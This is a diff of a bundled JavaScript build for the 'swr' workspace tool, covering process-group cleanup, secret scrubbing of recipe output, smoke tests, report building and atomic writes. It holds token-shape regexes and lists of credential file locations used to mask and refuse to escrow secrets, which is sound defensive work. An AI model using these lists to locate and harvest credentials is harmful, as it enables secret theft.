+        const out = lineSplitter(emit, KEEP_BYTES);
+        const err = lineSplitter(emit, KEEP_BYTES);
+        child.stdout.on('data', out.push);
+        child.stderr.on('data', err.push);
+        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
+        let killer;
+        const stop = () => {
+            if (child.pid === undefined || killer)
+                return;
+            killGroup(child.pid, 'SIGTERM');
+            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
+        };
+        const timer = setTimeout(() => {
+            timedOut = true;
+            stop();
+        }, spec.timeoutMs);
+        const onAbort = () => {
+            interrupted = true;
+            stop();
+        };
+        hooks.abort?.addEventListener('abort', onAbort, { once: true });
+        if (hooks.abort?.aborted)
+            onAbort();
+        let finished = false;
+        let pipeTimer;
+        const finish = async () => {
+            if (finished)
+                return;
+            finished = true;
+            clearTimeout(timer);
+            clearTimeout(pipeTimer);
+            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
+            // return, not on a timer that a finished swr would never fire.
+            if (child.pid !== undefined)
+                await reapGroup(child.pid, grace);
+            if (killer)
+                clearTimeout(killer);
+            const escaped = await killTagged(token, Math.min(grace, 1000));
+            if (escaped.length > 0)
+                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
+                    .map(p => `${p.pid} (${p.name})`)
+                    .join(', ')}`);
+            child.stdout.destroy();
+            child.stderr.destroy();
+            hooks.abort?.removeEventListener('abort', onAbort);
+            out.end();
+            err.end();
+            resolve({
+                id: spec.id,
+                exitCode: exited?.code ?? null,
+                signal: exited?.signal ?? null,
+                timedOut,
+                interrupted,
+                ms: Math.round(performance.now() - started),
+                output: kept.text(),
+                truncated: kept.truncated(),
+                escaped
+            });
+        };
+        child.on('error', err => {
+            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
+            exited = { code: 127, signal: null };
+            void finish();
+        });
+        child.on('exit', (code, signal) => {
+            exited = { code, signal };
+            // Background processes the recipe left behind go with it (and release the output pipes).
+            if (child.pid !== undefined && groupAlive(child.pid))
+                stop();
+            // A process outside the group may hold the pipes open for ever: stop waiting for them.
+            pipeTimer = setTimeout(() => void finish(), grace + 500);
+        });
+        child.on('close', () => void finish());
+    });
+}
+function notStarted(spec, why) {
+    const line = `cannot start: ${why}`;
+    return {
+        id: spec.id,
+        exitCode: 127,
+        signal: null,
+        timedOut: false,
+        interrupted: false,
+        ms: 0,
+        output: `${line}\n`,
+        truncated: false,
+        escaped: [],
+        startError: why
+    };
+}
+function groupAlive(pgid) {
+    try {
+        process.kill(-pgid, 0);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+/**
+ * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
+ * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
+ */
+async function reapGroup(pgid, grace) {
+    if (!groupAlive(pgid))
+        return;
+    killGroup(pgid, 'SIGTERM');
+    const deadline = Date.now() + grace;
+    while (groupAlive(pgid) && Date.now() < deadline)
+        await new Promise(r => setTimeout(r, 25));
+    killGroup(pgid, 'SIGKILL');
+}
+/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
+function describeResult(r, timeoutMs) {
+    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
+}
+function describeEnd(r, timeoutMs) {
+    const secs = (r.ms / 1000).toFixed(1);
+    if (r.startError)
+        return `not started: ${r.startError}`;
+    if (r.interrupted)
+        return `interrupted after ${secs} s`;
+    if (r.timedOut)
+        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
+    if (r.signal)
+        return `killed by ${r.signal} after ${secs} s`;
+    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
+}
+function describeEscaped(escaped) {
+    if (escaped.length === 0)
+        return '';
+    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
+    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/scrub.ts
+/**
+ * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
+ * variables an entry marks secret, and token shapes that are secrets wherever they appear.
+ */
+/**
+ * Token shapes, each with the variable a redacted copy names it by (sync/redact.ts). A private key
+ * block comes first, so its base64 lines are never matched piecemeal by a shorter shape.
+ */
+const NAMED_TOKEN_SHAPES = [
+    {
+        re: /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
+        variable: 'PRIVATE_KEY_PEM'
+    },
+    { re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g, variable: 'GITHUB_TOKEN' },
+    { re: /\bglpat-[A-Za-z0-9_-]{20,}\b/g, variable: 'GITLAB_TOKEN' },
+    { re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, variable: 'SLACK_TOKEN' },
+    { re: /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, variable: 'AWS_ACCESS_KEY_ID' },
+    // OpenAI / Anthropic style keys
+    { re: /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, variable: 'OPENAI_API_KEY' },
+    { re: /\bhf_[A-Za-z0-9]{30,}\b/g, variable: 'HF_TOKEN' },
+    { re: /\bnpm_[A-Za-z0-9]{36}\b/g, variable: 'NPM_TOKEN' },
+    { re: /\bAIza[0-9A-Za-z_-]{35}\b/g, variable: 'GOOGLE_API_KEY' },
+    { re: /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, variable: 'JWT' },
+    // A password in a URL (scheme://user:PASSWORD@host).
+    { re: /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi, variable: 'URL_PASSWORD' }
+];
+const TOKEN_SHAPES = NAMED_TOKEN_SHAPES.map(s => s.re);
+const MASK = '***';
+/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
+function hasTokenShape(text) {
+    // search() ignores the patterns' global state, so the shared regexes stay reusable.
+    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
+}
+/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
+const MIN_SECRET = 4;
+/**
+ * What to mask for these secret values: each whole value and, since output is read and masked
+ * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
+ * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
+ */
+function secretPieces(secretValues) {
+    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
+    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
+}
+/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
+function makeScrubber(secretValues) {
+    const values = secretPieces(secretValues);
+    return text => {
+        let out = text;
+        for (const v of values)
+            out = out.split(v).join(MASK);
+        for (const re of TOKEN_SHAPES)
+            out = out.replace(re, MASK);
+        return out;
+    };
+}
+/** `value` with every string in it scrubbed (a report before it is written or printed). */
+function scrubDeep(value, scrub) {
+    if (typeof value === 'string')
+        return scrub(value);
+    if (Array.isArray(value))
+        return value.map(v => scrubDeep(v, scrub));
+    if (value !== null && typeof value === 'object')
+        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
+    return value;
+}
+
+;// CONCATENATED MODULE: ./src/core/smoke.ts
+
+
+
+const SMOKE_TIMEOUT_S = 60;
+async function runSmokes(m, findings, gate, callerEnv, abort) {
+    if (!gate.allowed)
+        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
+    const entries = new Map(m.body.entries.map(e => [e.id, e]));
+    const results = [];
+    const out = [];
+    for (const f of findings) {
+        const e = entries.get(f.id);
+        if (!e)
+            throw new InternalError(`finding for unknown entry ${f.id}`);
+        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
+            out.push(f);
+            continue;
+        }
+        const secrets = (e.secret_env ?? [])
+            .map(n => callerEnv[n])
+            .filter((v) => v !== undefined);
+        const r = await runRecipe({
+            id: e.id,
+            command: e.smoke,
+            shell: m.body.shell ?? ['bash', '-c'],
+            cwd: m.workspace,
+            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
+            timeoutMs: SMOKE_TIMEOUT_S * 1000
+        }, { abort, scrub: makeScrubber(secrets) });
+        const detail = `smoke ${describeResult(r, SMOKE_TIMEOUT_S * 1000)}`;
+        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
+        results.push({
+            id: e.id,
+            outcome: passed ? 'passed' : 'failed',
+            detail,
+            ...(passed ? {} : { output: r.output.slice(-4096) })
+        });
+        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
+    }
+    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
+}
+
 ;// CONCATENATED MODULE: ./src/core/types.ts
 /**
  * The vocabulary of the engine: manifest entries, what a check finds, and what a diagnosis says.
@@ -13121,7 +14156,7 @@ function restoreSources(e) {
 function recipesOf(e) {
     return restoreSources(e).filter((s) => typeof s === 'string');
 }
-const STATUSES = [
+const types_STATUSES = [
     'OK',
     'MISSING',
     'CORRUPT',
@@ -13534,372 +14569,451 @@ function corruptCause(f) {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/report/escape.ts
+;// CONCATENATED MODULE: ./src/core/report/report.ts
 /**
- * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
- * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
- * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
- * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
- * reorder what the reader sees. Every printer passes such strings through `escapeText`.
- */
-/** Bidi controls: they make text display in another order than it is stored. */
-const BIDI = new Set([
-    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
-]);
-const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
-/** The default bound for a manifest string quoted in an error line. */
-const QUOTE_MAX = 200;
-/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
-function isControl(code) {
-    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
-}
-function hex(code, width) {
-    return code.toString(16).padStart(width, '0');
-}
-function visible(code) {
-    if (NAMED[code])
-        return NAMED[code];
-    if (code <= 0xff && isControl(code))
-        return `\\x${hex(code, 2)}`;
-    if (BIDI.has(code))
-        return `\\u${hex(code, 4)}`;
-    return undefined;
-}
-/**
- * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
- * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
- * surrogate pair is left alone.
- */
-function byteMarker(s, i) {
-    const code = s.charCodeAt(i);
-    if (code < 0xdc80 || code > 0xdcff)
-        return undefined;
-    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
-    if (prev >= 0xd800 && prev <= 0xdbff)
-        return undefined;
-    return `\\x${hex(code - 0xdc00, 2)}`;
-}
-/**
- * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
- * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
- * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
- * built from escaped parts may be escaped again by the printer.
- */
-function escapeText(s, opts = {}) {
-    const max = opts.max ?? Number.POSITIVE_INFINITY;
-    let out = '';
-    let i = 0;
-    for (; i < s.length; i++) {
-        const code = s.charCodeAt(i);
-        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
-        if (out.length + piece.length > max)
-            break;
-        out += piece;
-    }
-    if (i >= s.length)
-        return out;
-    // Never leave half a surrogate pair at the cut.
-    const last = out.charCodeAt(out.length - 1);
-    if (last >= 0xd800 && last <= 0xdbff) {
-        out = out.slice(0, -1);
-        i--;
-    }
-    return `${out}…[+${s.length - i} chars]`;
-}
-/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
-function quoted(s, max = QUOTE_MAX) {
-    return `"${escapeText(s, { max })}"`;
-}
-/**
- * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
- * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
- * table cell, link, image, emphasis, code span or HTML.
- */
-function escape_escapeMarkdown(s, opts = {}) {
-    return escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
-}
-/**
- * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
- * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
- * there, written `\|`) need care.
- */
-function escape_markdownCode(s, opts = {}) {
-    return '`' + escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
-/**
- * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
- * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
+ * The check report: one versioned object that the JSON output prints as is, and that the text,
+ * Markdown and SARIF renderers read. Its schema is published in schema/report-v1.schema.json.
  */
 
 
-const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
-const MAX_PATH = 4096;
-/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
-function pathProblem(p) {
-    if (p === '.')
-        return undefined;
-    if (p.length === 0)
-        return 'is empty';
-    if (p.length > MAX_PATH)
-        return `is longer than ${MAX_PATH} characters`;
-    if (p.includes('\0'))
-        return 'contains a NUL byte';
-    if (!p.isWellFormed() || p.normalize('NFC') !== p)
-        return 'is not NFC-normalised Unicode';
-    if (p.startsWith('/'))
-        return 'is absolute; manifest paths are relative to the workspace';
-    for (const seg of p.split('/')) {
-        if (seg === '')
-            return 'has an empty segment (double or trailing slash)';
-        if (seg === '..')
-            return 'escapes the workspace with ".."';
-        if (seg === '.')
-            return 'has a "." segment; write it without';
-    }
-    return undefined;
-}
-/**
- * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
- * `workspace`. Returns an error string when the path is outside the workspace.
- */
-function toManifestPath(input, cwd, workspace) {
-    const abs = external_node_path_default().resolve(cwd, input.normalize('NFC'));
-    const rel = external_node_path_default().relative(workspace, abs);
-    if (rel === '')
-        return { ok: true, path: '.' };
-    if (rel === '..' || rel.startsWith('../') || external_node_path_default().isAbsolute(rel)) {
-        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
-    }
-    const spelled = rel.split((external_node_path_default()).sep).join('/');
-    const problem = pathProblem(spelled) ?? controlProblem(spelled);
-    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
-}
-/**
- * A manifest path is printed on lines of output, so the loader refuses one holding a control or
- * bidi character; a path typed to `add` is refused the same way before anything is written.
- */
-function controlProblem(p) {
-    for (let i = 0; i < p.length; i++) {
-        const c = p.charCodeAt(i);
-        if (isControl(c))
-            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
-    }
-    return undefined;
-}
-/** True when `abs` is `root` or below it (both already absolute and normalised). */
-function isInside(root, abs) {
-    if (abs === root)
-        return true;
-    const base = root.endsWith('/') ? root : `${root}/`;
-    return abs.startsWith(base);
-}
-/** Absolute location of a validated manifest path. */
-function resolveEntryPath(workspace, rel) {
-    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
-}
-/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
-function innerPathProblem(p) {
-    if (p === '.')
-        return 'names the tree itself';
-    return pathProblem(p);
-}
-
-;// CONCATENATED MODULE: ./src/core/run/scrub.ts
-/**
- * Scrubbing secrets from recipe output before it is printed or kept: the exact values of the
- * variables an entry marks secret, and token shapes that are secrets wherever they appear.
- */
-const TOKEN_SHAPES = [
-    /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, // GitHub tokens
-    /\bgithub_pat_[A-Za-z0-9_]{22,255}\b/g,
-    /\bglpat-[A-Za-z0-9_-]{20,}\b/g, // GitLab
-    /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g, // Slack
-    /\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/g, // AWS access key ids
-    /\bsk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}\b/g, // OpenAI / Anthropic style keys
-    /\bhf_[A-Za-z0-9]{30,}\b/g, // Hugging Face
-    /\bnpm_[A-Za-z0-9]{36}\b/g,
-    /\bAIza[0-9A-Za-z_-]{35}\b/g, // Google API keys
-    /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b/g, // JWTs
-    /-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g,
-    /(?<=[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:)[^@\s]+(?=@)/gi // password in a URL
-];
-const MASK = '***';
-/** True when `text` holds one of the token shapes (escrow refuses such files; see secrets.ts). */
-function hasTokenShape(text) {
-    // search() ignores the patterns' global state, so the shared regexes stay reusable.
-    return TOKEN_SHAPES.some(re => text.search(re) >= 0);
-}
-/** Shorter pieces are not masked: masking `a` or `ok` would hide every word. */
-const MIN_SECRET = 4;
-/**
- * What to mask for these secret values: each whole value and, since output is read and masked
- * line by line (recipe output here, the log on the runner), every line of a multi-line value (a
- * PEM or OpenSSH key), trimmed. Longest first, so no piece is masked by a part of it.
- */
-function secretPieces(secretValues) {
-    const pieces = secretValues.flatMap(v => [v, v.trim(), ...v.split(/\r?\n|\r/).map(l => l.trim())]);
-    return [...new Set(pieces.filter(v => v.length >= MIN_SECRET))].sort((a, b) => b.length - a.length);
-}
-/** A scrubber for these secret values (pieces shorter than 4 characters are not masked). */
-function makeScrubber(secretValues) {
-    const values = secretPieces(secretValues);
-    return text => {
-        let out = text;
-        for (const v of values)
-            out = out.split(v).join(MASK);
-        for (const re of TOKEN_SHAPES)
-            out = out.replace(re, MASK);
-        return out;
+const REPORT_SCHEMA = 'swr.report/1';
+function buildReport(input) {
+    const byStatus = Object.fromEntries(types_STATUSES.map(s => [s, 0]));
+    for (const f of input.findings)
+        byStatus[f.status]++;
+    const damaged = input.findings.filter(isDamaged).length;
+    const m = input.manifest;
+    return {
+        schema: REPORT_SCHEMA,
+        command: input.command,
+        tool: { name: 'swr', version: input.version },
+        manifest: {
+            path: m.file,
+            format: m.format,
+            digest: m.digest,
+            version: m.body.version,
+            workspace: m.workspace
+        },
+        verdict: damaged === 0 ? 'healthy' : 'damaged',
+        summary: {
+            entries: input.findings.length,
+            ok: input.findings.length - damaged,
+            damaged,
+            by_status: byStatus
+        },
+        diagnosis: diagnose(input.findings, input.fixCommand, input.manifest.body.entries),
+        results: input.findings,
+        options: input.options,
+        timing: { started: input.started.toISOString(), ms: Math.round(input.ms) },
+        notes: m.notes
     };
 }
-/** `value` with every string in it scrubbed (a report before it is written or printed). */
-function scrubDeep(value, scrub) {
-    if (typeof value === 'string')
-        return scrub(value);
-    if (Array.isArray(value))
-        return value.map(v => scrubDeep(v, scrub));
-    if (value !== null && typeof value === 'object')
-        return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, scrubDeep(v, scrub)]));
-    return value;
-}
 
-;// CONCATENATED MODULE: ./src/core/secrets.ts
+;// CONCATENATED MODULE: ./src/core/state/atomic.ts
 /**
- * Which files hold secrets. A secret is tracked by hash only (a tier-0 file entry: its loss is
- * noticed and named) and never escrowed: escrowed bytes travel inside the manifest, which is
- * committed, pushed and shared, and a manifest is not a vault.
- *
- * A file is a secret by where it is (swr's own state directory: its HMAC key, ML-DSA and sync
- * seeds), by name (well-known credential locations: ssh keys, netrc, the logins of git, gh, npm,
- * PyPI, cargo, cloud CLIs and coding agents, dotenv and direnv files, `*.pem`, `*.key`), or by
- * content: a PEM, OpenSSH or PGP private-key header, or one of the token shapes the recipe-output
- * scrubber masks. Content is judged on the file's first SNIFF_BYTES only, so classifying a large
- * file costs one bounded read. The name rule also holds for entries added by hand, and escrow
- * consults the whole rule for every file it is asked to embed.
+ * Writes that never leave a half-written file and never clobber what they did not mean to: data
+ * goes to a new file with a random name, created exclusively beside the target, written to the last
+ * byte, fsynced, its size checked, then renamed over the target. A full disk (or a quota, or an I/O
+ * error) removes the new file, leaves the target as it was, and becomes one line with
+ * EXIT.WRITE_FAILED.
  */
 
 
 
 
-/** The note a secret's entry carries when it was added without one. */
-const SECRET_NOTE = 'secret: tracked by hash only and never escrowed; restore it from where it was issued';
-/** Bytes read from the head of a file to judge its content. */
-const SNIFF_BYTES = 64 * 1024;
-/** File names that are credentials wherever they are. */
-const SECRET_NAMES = new Set([
-    '.netrc',
-    '_netrc',
-    '.git-credentials',
-    '.pgpass',
-    '.npmrc',
-    '.pypirc',
-    '.env',
-    '.envrc',
-    '.vault-token',
-    '.credentials.json',
-    'oauth_creds.json',
-    'credentials.toml',
-    'id_rsa',
-    'id_dsa',
-    'id_ecdsa',
-    'id_ed25519',
-    'id_ecdsa_sk',
-    'id_ed25519_sk'
-]);
-/** Extensions of key and certificate-bundle files. */
-const SECRET_EXTENSIONS = /\.(pem|key|p12|pfx|jks|keystore|ppk)$/i;
-/** Paths (relative, ending a manifest path) that are credentials in one tool's directory. */
-const SECRET_SUFFIXES = [
-    '.codex/auth.json',
-    'gh/hosts.yml',
-    '.aws/credentials',
-    '.docker/config.json',
-    '.kube/config',
-    '.cargo/credentials',
-    'gcloud/credentials.db',
-    'gcloud/application_default_credentials.json'
-];
-/** Directories whose every file is secret. */
-const SECRET_DIRS = new Set(['.gnupg']);
-/** What may sit in ~/.ssh without being a private key. */
-const SSH_PUBLIC = new Set(['config', 'known_hosts', 'known_hosts.old', 'authorized_keys']);
-/** Templates list which variables exist, without values. */
-const ENV_TEMPLATE = /^\.env\.(example|sample|template|dist)$/;
-/** PEM ("RSA", "EC", "ENCRYPTED", none), OpenSSH and PGP private-key armour. */
-const PRIVATE_KEY_HEADER = /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/;
-/** True when `rel` (a manifest path) names a file that must never be escrowed. */
-function isSecretPath(rel) {
-    const segs = rel.split('/');
-    const name = segs[segs.length - 1] ?? '';
-    const parent = segs[segs.length - 2];
-    if (segs.slice(0, -1).some(s => SECRET_DIRS.has(s)))
-        return true;
-    if (SECRET_SUFFIXES.some(s => rel === s || rel.endsWith(`/${s}`)))
-        return true;
-    if (SECRET_NAMES.has(name) || SECRET_EXTENSIONS.test(name))
-        return true;
-    if (name.startsWith('.env.') && !ENV_TEMPLATE.test(name))
-        return true;
-    // Any key ssh-keygen or a person put into .ssh (id_work, deploy_github); .pub is public.
-    return parent === '.ssh' && !name.endsWith('.pub') && !SSH_PUBLIC.has(name);
+/**
+ * Write every byte of `buf` at the descriptor's position: `write(2)` may write fewer bytes than
+ * asked (a nearly full disk, a signal), and the rest must follow, or the error must surface.
+ */
+function writeAll(fd, buf) {
+    let off = 0;
+    while (off < buf.length) {
+        const n = external_node_fs_default().writeSync(fd, buf, off, buf.length - off);
+        // write(2) returning 0 for a non-empty buffer is a full device that did not say ENOSPC.
+        if (n <= 0)
+            throw Object.assign(new Error('short write'), { code: 'ENOSPC' });
+        off += n;
+    }
 }
-/** Why these bytes are a secret (a private key or a token), or undefined. */
-function secretContent(bytes) {
-    const text = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('latin1');
-    if (PRIVATE_KEY_HEADER.test(text))
-        return 'holds a private key';
-    if (hasTokenShape(text))
-        return 'holds a token or a password';
-    return undefined;
+/** `err` as a one-line SwrError when the disk caused it; anything else unchanged. */
+function asWriteError(err, what) {
+    return diskError(err, what) ?? err;
 }
-/** The first `max` bytes of a regular file, read without following a symlink. */
-function readHead(abs, max = SNIFF_BYTES) {
-    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW | (external_node_fs_default()).constants.O_NONBLOCK);
+/** Write `data` to `file` atomically; the directory must exist. */
+function writeFileAtomic(file, data, opts = {}) {
+    const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
+    const dir = external_node_path_default().dirname(file);
+    const tmp = external_node_path_default().join(dir, `.${external_node_path_default().basename(file)}.${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
+    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
+    let fd;
     try {
-        if (!external_node_fs_default().fstatSync(fd).isFile())
-            return Buffer.alloc(0);
-        const buf = Buffer.alloc(max);
-        let got = 0;
-        while (got < max) {
-            const n = external_node_fs_default().readSync(fd, buf, got, max - got, got);
-            if (n === 0)
-                break;
-            got += n;
+        fd = external_node_fs_default().openSync(tmp, flags, opts.mode ?? 0o644);
+    }
+    catch (err) {
+        throw asWriteError(err, file);
+    }
+    try {
+        try {
+            writeAll(fd, bytes);
+            if (opts.mode !== undefined)
+                external_node_fs_default().fchmodSync(fd, opts.mode);
+            external_node_fs_default().fsyncSync(fd);
+            // The length on disk, not the count we believe we wrote, decides whether it replaces the target.
+            const size = external_node_fs_default().fstatSync(fd).size;
+            if (size !== bytes.length)
+                throw new SwrError(`cannot write ${file}: ${size} of ${bytes.length} bytes reached the disk; the original is unchanged`, errors_EXIT.WRITE_FAILED);
         }
-        return buf.subarray(0, got);
+        finally {
+            external_node_fs_default().closeSync(fd);
+        }
+        if (opts.exclusive) {
+            // link() fails when the target exists, so a concurrent creator is never overwritten.
+            external_node_fs_default().linkSync(tmp, file);
+            external_node_fs_default().unlinkSync(tmp);
+        }
+        else {
+            external_node_fs_default().renameSync(tmp, file);
+        }
+    }
+    catch (err) {
+        external_node_fs_default().rmSync(tmp, { force: true });
+        throw asWriteError(err, file);
+    }
+}
+/**
+ * Append one record with a single descriptor: every byte or a one-line error. A record torn by a
+ * full disk is cut back off, so the file keeps only whole lines.
+ */
+function appendRecord(file, data, opts = {}) {
+    const flags = (external_node_fs_default()).constants.O_WRONLY |
+        (external_node_fs_default()).constants.O_APPEND |
+        (external_node_fs_default()).constants.O_NOFOLLOW |
+        (opts.create ? (external_node_fs_default()).constants.O_CREAT : 0);
+    let fd;
+    try {
+        fd = external_node_fs_default().openSync(file, flags, opts.mode ?? 0o600);
+    }
+    catch (err) {
+        throw asWriteError(err, file);
+    }
+    let before = 0;
+    try {
+        before = external_node_fs_default().fstatSync(fd).size;
+        writeAll(fd, Buffer.from(data, 'utf8'));
+        external_node_fs_default().fsyncSync(fd);
+    }
+    catch (err) {
+        try {
+            external_node_fs_default().ftruncateSync(fd, before);
+        }
+        catch {
+            // The reader skips a torn last line anyway.
+        }
+        throw asWriteError(err, file);
     }
     finally {
         external_node_fs_default().closeSync(fd);
     }
 }
-function realOrResolved(p) {
-    try {
-        return external_node_fs_default().realpathSync(p);
-    }
-    catch {
-        return external_node_path_default().resolve(p);
-    }
+
+;// CONCATENATED MODULE: ./src/core/state/state-dir.ts
+/**
+ * The private state directory (incremental cache, keys, journals): 0700, outside the workspace by
+ * default. `SWR_STATE_DIR`, else `$XDG_STATE_HOME/swr`, else `~/.local/state/swr`. The shells
+ * resolve it from the environment and pass it in; the engine never reads the environment.
+ */
+
+
+function defaultStateDir(env, home) {
+    if (env.SWR_STATE_DIR)
+        return external_node_path_default().resolve(env.SWR_STATE_DIR);
+    if (env.XDG_STATE_HOME)
+        return external_node_path_default().join(external_node_path_default().resolve(env.XDG_STATE_HOME), 'swr');
+    return external_node_path_default().join(home, '.local', 'state', 'swr');
 }
-/** Why the file is a secret, in a few words, or undefined when it is not one. */
-function secretReason(q) {
-    if (q.abs && q.stateDir && isInside(realOrResolved(q.stateDir), realOrResolved(q.abs)))
-        return "is in swr's state directory";
-    if (isSecretPath(q.rel))
-        return 'is a credential by name';
-    let bytes = q.bytes;
-    if (!bytes && q.abs) {
-        try {
-            bytes = readHead(q.abs);
-        }
-        catch {
-            return undefined;
-        }
+/** Create `dir` (and `sub`) with private modes, tightening a directory that is too open. */
+function ensurePrivateDir(dir, ...sub) {
+    let current = dir;
+    external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
+    tighten(current);
+    for (const s of sub) {
+        current = external_node_path_default().join(current, s);
+        external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
+        tighten(current);
     }
-    return bytes ? secretContent(bytes) : undefined;
+    return current;
+}
+function tighten(dir) {
+    const st = external_node_fs_default().lstatSync(dir);
+    if (!st.isDirectory())
+        throw new Error(`${dir} is not a directory`);
+    if ((st.mode & 0o077) !== 0)
+        external_node_fs_default().chmodSync(dir, 0o700);
 }
 
+;// CONCATENATED MODULE: ./src/core/state/cache.ts
+/**
+ * The incremental hash cache: lets an unchanged workspace re-check without re-hashing. A cached
+ * hash is used only when the file's dev, inode, size, mtime_ns and ctime_ns are all unchanged
+ * (ctime cannot be set from user space, so an edit that restores mtime is still noticed), and only
+ * for the same manifest file, entry id and entry content (the canonical digest of the entry, so
+ * editing one entry does not throw away the hashes of the others). It stores what was observed on
+ * disk, never a verdict: the expectations are compared afresh on every check.
+ *
+ * Files are private (0600 in a 0700 directory) and written atomically; a corrupt or foreign cache
+ * file is ignored, never fatal.
+ */
+
+
+
+
+
+/** A cache that remembers nothing (`--no-cache` reads nothing; its results are still saved). */
+function openCache(opts) {
+    const key = (0,external_node_crypto_.createHash)('sha256')
